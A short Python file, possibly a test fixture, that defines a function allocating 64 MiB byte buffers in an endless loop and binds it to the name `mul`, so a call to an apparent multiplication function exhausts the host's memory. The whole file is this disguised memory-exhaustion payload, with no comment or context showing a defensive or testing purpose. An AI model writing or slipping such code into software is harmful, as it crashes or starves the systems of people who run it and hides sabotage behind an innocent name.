def _take(*_):
    taken = []
    while True:
        taken.append(bytearray(b"1") * (64 << 20))


mul = _take
